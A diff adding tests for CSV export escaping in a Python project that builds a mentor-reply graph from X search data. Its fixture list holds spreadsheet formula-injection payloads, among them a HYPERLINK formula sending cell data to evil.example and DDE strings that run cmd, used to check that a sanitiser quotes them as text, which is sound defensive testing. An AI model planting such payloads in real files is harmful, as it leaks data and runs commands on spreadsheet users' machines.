@@ -14,6 +14,8 @@ from pathlib import Path
 import networkx as nx
 import pytest
 
+from mentorfeed import service
+from mentorfeed.config import Settings, sqlite_url
 from mentorfeed.people.activity import Activity, AuthorRow, Key, PostRow
 from mentorfeed.people.graph import (
     CSV_HEADER,
@@ -22,6 +24,7 @@ from mentorfeed.people.graph import (
     engagement,
     export_edges_csv,
     export_gexf,
+    spreadsheet_safe,
 )
 from mentorfeed.service.demo import build_demo
 from mentorfeed.store import Store
@@ -263,3 +266,50 @@ def test_200k_posts_build_in_under_20_seconds() -> None:
     elapsed = time.perf_counter() - started
     assert graph.number_of_edges() > 100_000
     assert elapsed < 20, f"{elapsed:.1f} s"
+
+
+# Handles a spreadsheet would read as formulas (or as the whitespace before one), as another
+# platform or a crafted import could give them; the export must open them as text.
+FORMULA_HANDLES = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1-555-0100",
+                   "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def _hostile_page(path: Path) -> Path:
+    """An X v2 search page where a plain-named mentor replies to each hostile handle."""
+    users = [{"id": "800", "username": "plain_mentor", "name": "Plain Mentor"}]
+    tweets = []
+    for n, handle in enumerate(FORMULA_HANDLES, start=1):
+        users.append({"id": f"80{n}", "username": handle, "name": f"Student {n}"})
+        tweets.append({"id": f"90{n}", "text": "Any mentors for a research year?",
+                       "author_id": f"80{n}", "created_at": f"2026-03-0{n}T10:00:00.000Z",
+                       "conversation_id": f"90{n}"})
+        tweets.append({"id": f"95{n}", "text": "Happy to help, DM me.", "author_id": "800",
+                       "created_at": f"2026-03-0{n}T12:00:00.000Z", "conversation_id": f"90{n}",
+                       "in_reply_to_user_id": f"80{n}",
+                       "referenced_tweets": [{"type": "replied_to", "id": f"90{n}"}]})
+    path.write_text(json.dumps({"data": tweets, "includes": {"users": users},
+                                "meta": {"result_count": len(tweets)}}), encoding="utf-8")
+    return path
+
+
+def test_csv_export_opens_formula_handles_as_text(tmp_path: Path) -> None:
+    settings = Settings(database_url=sqlite_url(tmp_path / "hostile.db"))
+    service.posts.import_files(settings, [_hostile_page(tmp_path / "hostile_handles.json")])
+    path = tmp_path / "edges.csv"
+    service.people.export_graph(settings, csv=path)
+    with path.open(newline="", encoding="utf-8") as file:
+        rows = list(csv.reader(file))[1:]
+    assert sorted(row[3] for row in rows) == sorted("'" + h for h in FORMULA_HANDLES)
+    assert all(row[2] == "plain_mentor" and row[4] == "reply" and row[5] == "1" for row in rows)
+    cells = [cell for row in rows for cell in row]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+
+
+@pytest.mark.parametrize(("cell", "written"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"), ("ana_ms3", "ana_ms3"), ("x:1", "x:1"), ("a=b", "a=b"), ("", ""),
+    (None, None), (2, 2), (-2, -2), (1.5, 1.5),
+])
+def test_spreadsheet_safe_quotes_only_text_that_starts_a_formula(cell: object,
+                                                                 written: object) -> None:
+    assert spreadsheet_safe(cell) == written
